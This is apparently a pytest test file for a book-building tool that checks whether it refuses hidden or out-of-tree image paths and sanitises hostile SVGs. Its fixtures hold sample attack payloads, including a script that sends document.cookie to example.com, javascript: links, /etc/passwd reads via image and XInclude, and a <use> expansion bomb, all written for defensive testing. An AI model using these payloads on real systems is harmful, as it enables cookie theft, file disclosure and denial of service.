"""Images from strangers: only real images from inside the book, SVGs cleaned, names unique."""

from __future__ import annotations

import io
import os
import time
import zipfile
from pathlib import Path

import pytest
from lxml import etree
from PIL import Image

from bookbuild import epub, pipeline
from bookbuild.cli import main
from bookbuild.images import output_names
from bookbuild.svgclean import KEPT_ELEMENTS, SVG
from tests.test_stages import write_manuscript
from tests.validators import run_epubcheck

FRONT = "---\ntitle: A\nera: 1900/1950\n---\n"
SECRET = "ghp_SECRETTOKEN123"
XHTML = "{http://www.w3.org/1999/xhtml}"
# A 1 x 1 PNG.
DOT = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQ"
    "DwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)

HOSTILE_SVG = f"""<?xml version="1.0"?>
<?xml-stylesheet href="https://example.com/steal.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
     xmlns:h="http://www.w3.org/1999/xhtml"
     width="200" height="60" inkscape:version="1.3" onload="alert(1)" xml:base="https://example.com/">
  <script>fetch('https://example.com/?' + document.cookie)</script>
  <h:script>alert(2)</h:script>
  <style>@import url(https://example.com/a.css); rect {{ stroke: #000 }}</style>
  <style>circle {{ fill: url(#shade) }}</style>
  <linearGradient id="shade"><stop offset="0" stop-color="#7a1f2b"/></linearGradient>
  <rect width="200" height="60" fill="#f6f3ee" style="fill: url(https://example.com/p.svg#x)"/>
  <a href="javascript:alert(3)"><circle cx="30" cy="30" r="6" onclick="alert(4)"/></a>
  <image xlink:href="file:///etc/passwd" width="1" height="1"/>
  <image href="https://example.com/tracker.png" width="1" height="1"/>
  <image href="data:image/png;base64,{DOT}" width="1" height="1"/>
  <image href="data:image/png;base64,aGVsbG8=" width="1" height="1"/>
  <use href="other.svg#x"/>
  <use href="#shade"/>
  <foreignObject width="10" height="10"><h:iframe src="https://example.com/"/></foreignObject>
  <animate attributeName="href" to="javascript:alert(5)"/>
  <set attributeName="onclick" to="alert(6)"/>
  <text x="40" y="35">Route<h:b>{SECRET}</h:b> east</text>
</svg>
"""


def run(argv: list[str]) -> tuple[int, str]:
    err = io.StringIO()
    return main(argv, stdout=io.StringIO(), stderr=err), err.getvalue()


def book_with(tmp_path: Path, body: str, files: dict[str, bytes] | None = None) -> Path:
    root = write_manuscript(tmp_path / "m", {"01-a.md": FRONT + body})
    for name, data in (files or {}).items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(data)
    return root


def raster(kind: str, size: tuple[int, int] = (40, 30), *, noise: bool = False) -> bytes:
    buffer = io.BytesIO()
    pixels = os.urandom(size[0] * size[1] * 3) if noise else b"\x7a\x1f\x2b" * size[0] * size[1]
    Image.frombytes("RGB", size, pixels).save(buffer, kind)
    return buffer.getvalue()


def every_byte(folder: Path) -> bytes:
    """Return the bytes of every file under a folder, EPUB members unzipped."""
    data = b""
    for path in (p for p in folder.rglob("*") if p.is_file()):
        data += path.read_bytes()
        if path.suffix == ".epub":
            with zipfile.ZipFile(path) as zf:
                data += b"".join(zf.read(n) for n in zf.namelist())
    return data


def test_secrets_and_hidden_files_never_pass_as_images(tmp_path: Path) -> None:
    root = book_with(
        tmp_path,
        "![a](.git/config) ![b](.env)\n\n![c](images/../.git/config) ![d](images/logo.png)\n\n"
        "![e](images/host.png) ![f](images/alias.svg)\n",
        {
            ".git/config": f"[remote]\n\turl = https://{SECRET}@github.com/x\n".encode(),
            ".env": b"x",
        },
    )
    (root / "images").mkdir()
    (root / "images" / "logo.png").symlink_to("../.git/config")
    (root / "images" / "host.png").symlink_to("/etc/hostname")
    (root / "images" / "map.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"/>')
    (root / "images" / "alias.svg").symlink_to("map.svg")  # a link that stays inside is fine
    out = tmp_path / "out"
    code, err = run(["build", str(root), "--out", str(out), "--format", "epub"])
    chapter = f"{root}/chapters/01-a.md"
    hidden = "is hidden (a name in its path starts with '.'); refused [BB305]"
    assert (code, err) == (
        1,
        f"{chapter}:5:1: error: image '.git/config' {hidden}\n"
        f"{chapter}:5:19: error: image '.env' {hidden}\n"
        f"{chapter}:7:1: error: image 'images/../.git/config' {hidden}\n"
        f"{chapter}:7:29: error: image 'images/logo.png' leads to '.git/config', which is "
        "hidden; refused [BB305]\n"
        f"{chapter}:9:1: error: image 'images/host.png' lies outside the manuscript folder "
        "[BB302]\n",
    )
    assert not out.exists()


def test_unreadable_images_are_diagnostics_in_every_build(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    png = raster("PNG")
    root = book_with(
        tmp_path,
        "![a](images/cut.png) ![b](images/dir.png) ![c](images/pipe.gif)\n\n"
        "![d](images/locked.png) ![e](images/jpeg.png) ![f](images/big.webp)\n",
        {
            "images/cut.png": png[:-20],
            "images/locked.png": png,
            "images/jpeg.png": raster("JPEG"),
            "images/big.webp": raster("WEBP", (100, 100), noise=True),
        },
    )
    (root / "images" / "dir.png").mkdir()
    os.mkfifo(root / "images" / "pipe.gif")  # opened without blocking: no hang
    real_open = os.open

    def refuse_locked(path: object, *args: object, **kwargs: object) -> int:
        if str(path).endswith("locked.png"):  # tests run as root, where chmod 000 is no bar
            raise PermissionError(13, "Permission denied", str(path))
        return real_open(path, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(os, "open", refuse_locked)
    monkeypatch.setenv("BOOKBUILD_MAX_IMAGE_BYTES", "2000")
    chapter = f"{root}/chapters/01-a.md"
    expected = (
        f"{chapter}:5:1: error: image 'images/cut.png' cannot be decoded: Truncated File Read "
        "[BB309]\n"
        f"{chapter}:5:22: error: image 'images/dir.png' cannot be read: Is a directory [BB309]\n"
        f"{chapter}:5:43: error: image 'images/pipe.gif' cannot be read: not a regular file "
        "[BB309]\n"
        f"{chapter}:7:1: error: image 'images/locked.png' cannot be read: Permission denied "
        "[BB309]\n"
        f"{chapter}:7:25: error: image 'images/jpeg.png' is named as PNG but its content is "
        "JPEG data [BB307]\n"
        f"{chapter}:7:47: error: image 'images/big.webp' is larger than 2,000 bytes "
        "(BOOKBUILD_MAX_IMAGE_BYTES raises the limit) [BB308]\n"
    )
    for formats in ("epub", "html", "pdf"):
        code, err = run(["build", str(root), "--out", str(tmp_path / "out"), "--format", formats])
        assert (code, err) == (1, expected)
    assert not (tmp_path / "out").exists()
    monkeypatch.setenv("BOOKBUILD_MAX_IMAGE_BYTES", "lots")
    assert run(["check", str(root)]) == (
        1,
        "error: BOOKBUILD_MAX_IMAGE_BYTES is 'lots', not a positive whole number [BB308]\n",
    )


# What Inkscape saves: editor bookkeeping and RDF metadata, all of it invisible to readers.
INKSCAPE_SVG = """<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg width="210mm" height="60mm" viewBox="0 0 210 60" version="1.1" id="svg1"
   inkscape:version="1.3 (0e150ed6c4, 2023-07-21)" sodipodi:docname="drawing.svg"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns="http://www.w3.org/2000/svg" xmlns:svg="http://www.w3.org/2000/svg"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#"
   xmlns:dc="http://purl.org/dc/elements/1.1/">
  <sodipodi:namedview id="namedview1" pagecolor="#ffffff" inkscape:zoom="0.5"/>
  <metadata id="metadata1"><rdf:RDF><cc:Work rdf:about=""><dc:title>Plan</dc:title></cc:Work>
  </rdf:RDF></metadata>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1">
    <rect style="fill:#c9a27a;stroke:#7a1f2b;stroke-width:0.5" id="rect1" width="200" height="50"
       x="5" y="5" sodipodi:nodetypes="cccc"/>
  </g>
</svg>
"""
NAMED_SVG = '<svg xmlns="http://www.w3.org/2000/svg"><title>{}</title></svg>'
SVG_NAMES = ("map-a.svg", "map+a.svg", "карта.svg", "Map-A.svg", "map a.svg")
GALLERY = (
    "![A route](images/route.svg)\n\n"
    "![a](images/map-a.svg) ![b](images/map+a.svg) ![c](images/карта.svg)\n\n"
    "![d](images/%D0%BA%D0%B0%D1%80%D1%82%D0%B0.svg) ![e](images/Map-A.svg) "
    "![f](<images/map a.svg>)\n\n"
    "![g](images/photo.jpg) ![h](images/anim.gif) ![i](images/tile.webp) ![j](images/dot.png)\n\n"
    "![k](images/inkscape.svg)\n"
)


@pytest.fixture(scope="module")
def gallery(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, dict[str, object]]:
    """Build, once, a book with a hostile SVG, look-alike and non-ASCII names and every raster
    format; return the manuscript, the output folder and the assets WeasyPrint was given."""
    files = {f"images/{n}": NAMED_SVG.format(n).encode() for n in SVG_NAMES}
    files |= {"images/photo.jpg": raster("JPEG"), "images/anim.gif": raster("GIF")}
    files |= {"images/tile.webp": raster("WEBP"), "images/dot.png": raster("PNG")}
    files |= {
        "images/route.svg": HOSTILE_SVG.encode(),
        "images/inkscape.svg": INKSCAPE_SVG.encode(),
    }
    root = book_with(tmp_path_factory.mktemp("gallery"), GALLERY, files)
    laid_out: dict[str, object] = {}
    real_pdf = pipeline.build_pdf_bytes

    def spy(
        book: object, html: str, assets: dict[str, object], *args: object, **options: object
    ) -> object:
        laid_out.update(assets)
        return real_pdf(book, html, assets, *args, **options)  # type: ignore[arg-type]

    out = root.parent / "out"
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(pipeline, "build_pdf_bytes", spy)
        result = pipeline.build(root, out, ("pdf", "epub", "html"))
    (out / "diagnostics.txt").write_text("".join(d.format() + "\n" for d in result.diagnostics))
    return root, out, laid_out


def epub_members(out: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(out / "t.epub") as zf:
        return {n.removeprefix("EPUB/"): zf.read(n) for n in zf.namelist()}


def image_srcs(members: dict[str, bytes]) -> list[str]:
    page = etree.fromstring(members["a.xhtml"])
    return [str(img.get("src")) for img in page.iter(f"{XHTML}img")]


def test_hostile_svg_is_cleaned_for_every_output(
    gallery: tuple[Path, Path, dict[str, object]],
) -> None:
    root, out, laid_out = gallery
    shown = f"{root}/images/route.svg"
    warnings = (out / "diagnostics.txt").read_text().splitlines()
    assert all(w.startswith(f"{shown}:") and w.endswith("[BB311]") for w in warnings)
    assert (
        f"{shown}:2:1: warning: removed the processing instruction <?xml-stylesheet?> [BB311]"
        in warnings
    )
    assert (
        f"{shown}:7:1: warning: removed <script> (scripts never run in the book) [BB311]"
        in warnings
    )
    members = epub_members(out)
    name = image_srcs(members)[0]
    cleaned = members[name]
    assert (out / "html" / name).read_bytes() == cleaned
    assert laid_out[name] == cleaned  # what WeasyPrint lays out in the PDF
    for bad in (b"script", b"onload", b"onclick", b"example.com", b"javascript", b"passwd"):
        assert bad not in cleaned
    assert SECRET.encode() not in every_byte(out)
    svg = etree.fromstring(cleaned)
    assert {e.tag for e in svg.iter("{*}*")} <= {f"{{{SVG}}}{n}" for n in KEPT_ELEMENTS}
    assert [e.get("href") for e in svg.iter(f"{{{SVG}}}use")] == ["#shade"]
    # Outside references went with their <image>; a data: PNG that is one stays.
    assert [e.get("href") for e in svg.iter(f"{{{SVG}}}image")] == [f"data:image/png;base64,{DOT}"]
    assert not [w for w in warnings if "inkscape" in w]  # editor bookkeeping goes quietly
    assert "inkscape" not in cleaned.decode()
    assert "".join(svg.find(f"{{{SVG}}}text").itertext()) == "Route east"


def test_image_names_stay_unique_and_non_ascii_names_work(
    gallery: tuple[Path, Path, dict[str, object]],
) -> None:
    root, out, _ = gallery
    members = epub_members(out)
    srcs = image_srcs(members)[1:11]
    assert len(srcs) == 10 and srcs[2] == srcs[3] and len(set(srcs)) == 9
    assert len({s.casefold() for s in srcs}) == 9
    assert all(s.isascii() and " " not in s and "+" not in s for s in srcs)
    titles = [etree.fromstring(members[s]).findtext(f"{{{SVG}}}title") for s in srcs[:6]]
    assert titles == ["map-a.svg", "map+a.svg", "карта.svg", "карта.svg", "Map-A.svg", "map a.svg"]
    assert members[srcs[6]] == (root / "images" / "photo.jpg").read_bytes()
    assert all((out / "html" / s).read_bytes() == members[s] for s in srcs)


def test_an_inkscape_svg_is_cleaned_quietly(gallery: tuple[Path, Path, dict[str, object]]) -> None:
    _, out, _ = gallery
    assert "inkscape.svg" not in (out / "diagnostics.txt").read_text()
    svg = etree.fromstring(epub_members(out)[image_srcs(epub_members(out))[11]])
    assert svg.nsmap == {None: SVG}
    (rect,) = svg.iter(f"{{{SVG}}}rect")
    assert rect.get("style") == "fill:#c9a27a;stroke:#7a1f2b;stroke-width:0.5"
    assert dict(rect.attrib).keys() == {"style", "id", "width", "height", "x", "y"}


def test_odd_paths_and_svgs_are_diagnostics(tmp_path: Path) -> None:
    deep = '<svg xmlns="http://www.w3.org/2000/svg">' + "<g>" * 300 + "</g>" * 300 + "</svg>"
    xinclude = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude">'
        '<xi:include href="/etc/passwd" parse="text"/></svg>'
    )
    root = book_with(
        tmp_path,
        "![a](images/%00x.png) ![b](images/loop.png) ![c](images/x%0Ay.png)\n",
        {"images/deep.svg": deep.encode(), "images/xi.svg": xinclude.encode()},
    )
    (root / "images" / "loop.png").symlink_to("loop.png")
    chapter = f"{root}/chapters/01-a.md"
    assert run(["check", str(root)]) == (
        1,
        f"{chapter}:5:1: error: image 'images/%00x.png' cannot be read: embedded null byte "
        "[BB309]\n"
        f"{chapter}:5:23: error: image 'images/loop.png' cannot be read: Symlink loop from "
        f"'{root}/images/loop.png' [BB309]\n"
        f"{chapter}:5:45: error: image 'images/x%0Ay.png' not found [BB301]\n",
    )
    (root / "chapters" / "01-a.md").write_text(
        FRONT + "![c](images/deep.svg) ![d](images/xi.svg)\n"
    )
    code, err = run(["check", str(root)])
    assert (code, err.splitlines()) == (
        1,
        [
            f"{root}/images/deep.svg:1:808: error: the SVG is not well-formed XML: Excessive depth "
            "in document: 256, use XML_PARSE_HUGE option, line 1, column 808 [BB310]",
            f"{root}/images/xi.svg:1:1: warning: removed <xi:include>, which is not an SVG drawing "
            "element [BB311]",
        ],
    )


def test_gallery_epub_passes_epubcheck(gallery: tuple[Path, Path, dict[str, object]]) -> None:
    code, report = run_epubcheck(gallery[1] / "t.epub")
    assert code == 0 and "No errors or warnings detected" in report, report


def test_an_uncleaned_svg_would_fail_epubcheck(tmp_path: Path) -> None:
    """The judge of the test above sees what cleaning removes: the raw SVG fails it."""
    root = book_with(tmp_path, "![A route](images/route.svg)\n", {"images/route.svg": b""})
    (root / "images" / "route.svg").write_text(HOSTILE_SVG)
    out = tmp_path / "out"
    real = epub._asset_items

    def raw_items(assets: dict[str, object]) -> list[object]:
        raw = root / "images" / "route.svg"
        return real({n: raw if n.endswith("route.svg") else a for n, a in assets.items()})  # type: ignore[arg-type]

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(epub, "_asset_items", raw_items)
        pipeline.build(root, out, ("epub",))
    code, report = run_epubcheck(out / "t.epub")
    assert code != 0 and "ERROR" in report


def test_use_fan_out_is_counted_not_expanded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    levels = ['<circle id="l0" r="1"/>'] + [
        f'<g id="l{n}">' + f'<use href="#l{n - 1}"/>' * 10 + "</g>" for n in range(1, 11)
    ]
    bomb = f'<svg xmlns="http://www.w3.org/2000/svg"><defs>{"".join(levels)}</defs></svg>'
    loop = '<svg xmlns="http://www.w3.org/2000/svg">\n<g id="a"><g><use href="#a"/></g></g></svg>'
    fine = (
        '<svg xmlns="http://www.w3.org/2000/svg">'
        + '<g id="a"><rect/><rect/></g>'
        + '<use href="#a"/>' * 8000
        + "</svg>"
    )
    root = book_with(
        tmp_path,
        "![a](images/bomb.svg) ![b](images/loop.svg) ![c](images/fine.svg)\n",
        {
            "images/bomb.svg": bomb.encode(),
            "images/loop.svg": loop.encode(),
            "images/fine.svg": fine.encode(),
        },
    )
    assert len(bomb) < 2100  # 10^10 elements once expanded
    started = time.perf_counter()
    code, err = run(["check", str(root)])
    assert time.perf_counter() - started < 5
    assert (code, err) == (
        1,
        f"{root}/images/bomb.svg:1:1: error: the SVG has more than 20,000 elements once every "
        "<use> is expanded (BOOKBUILD_MAX_SVG_ELEMENTS raises the limit) [BB312]\n"
        f"{root}/images/loop.svg:1:1: error: the SVG has a <use> that refers to itself or its "
        "ancestors [BB312]\n"
        f"{root}/images/fine.svg:1:1: error: the SVG has more than 20,000 elements once every "
        "<use> is expanded (BOOKBUILD_MAX_SVG_ELEMENTS raises the limit) [BB312]\n",
    )
    (root / "chapters" / "01-a.md").write_text(FRONT + "![c](images/fine.svg)\n")
    monkeypatch.setenv("BOOKBUILD_MAX_SVG_ELEMENTS", "40000")  # 1 + 3 + 8000 * (1 + 3)
    assert run(["check", str(root)]) == (0, "")
    monkeypatch.setenv("BOOKBUILD_MAX_SVG_ELEMENTS", "-5")
    assert run(["check", str(root)]) == (
        1,
        "error: BOOKBUILD_MAX_SVG_ELEMENTS is '-5', not a positive whole number [BB312]\n",
    )


def test_output_names_are_stable_and_collisions_get_longer_hashes() -> None:
    paths = {Path(f"/m/{r}"): r for r in ("images/a.svg", "images/A.svg", "images/ä.svg")}
    names = output_names(paths)
    # Sorted, "A" comes first and keeps its name; "a" would clash on a case-insensitive disk.
    assert names[Path("/m/images/A.svg")] == "images/images/A.svg"
    assert names[Path("/m/images/a.svg")].startswith("images/images/a-")
    assert names[Path("/m/images/ä.svg")].startswith("images/images/a-")
    assert len({n.casefold() for n in names.values()}) == 3
    assert output_names(paths) == names
